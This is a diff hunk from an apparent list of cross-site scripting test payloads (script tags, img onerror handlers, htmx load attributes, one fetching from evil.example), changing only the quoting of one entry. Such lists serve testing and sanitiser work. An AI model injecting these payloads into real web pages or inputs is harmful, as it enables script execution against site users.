@@ -46,7 +46,7 @@ WHOLE = [
     "<img src=\"x`<script>alert('{m}')</script>\"` `>",
     "<img src=x:x onerror=alert('{m}')//",
     "<image src=x onerror=alert('{m}')>",
-    "<img \"\"\"><script>alert('{m}')</script>\">",
+    '<img """><script>alert(\'{m}\')</script>">',
     "<b hx-get=//evil.example/{m} hx-trigger=load>x</b>",
     "<b data-hx-on:load=alert('{m}')>x</b>",
     "<b hx-on::load=alert('{m}')>x</b>",
